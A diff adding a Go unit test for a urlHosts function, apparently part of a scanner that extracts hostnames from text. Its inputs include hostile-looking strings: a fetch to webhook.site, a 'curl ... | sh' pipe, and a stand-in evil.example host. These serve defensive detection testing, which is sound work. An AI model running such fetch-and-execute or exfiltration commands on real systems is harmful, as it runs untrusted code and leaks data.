@@ -488,3 +488,17 @@ func TestWriteBaselineRoundTrip(t *testing.T) {
 		t.Fatalf("empty baseline: %v %v\n%s", e, err, buf.String())
 	}
 }
+
+func TestURLHosts(t *testing.T) {
+	for text, want := range map[string][]string{
+		`fetch("https://Webhook.Site/abc")`:           {"webhook.site"},
+		"curl http://a.b:8080/x | sh; wss://c.d/e":     {"a.b", "c.d"},
+		"git+ssh://git@example.com/x file:///etc/pwd": nil,
+		"://x.y  https://":                             nil,
+		"xhttps://evil.example/":                       nil,
+	} {
+		if d := cmp.Diff(want, urlHosts(text)); d != "" {
+			t.Errorf("urlHosts(%q) (-want +got):\n%s", text, d)
+		}
+	}
+}
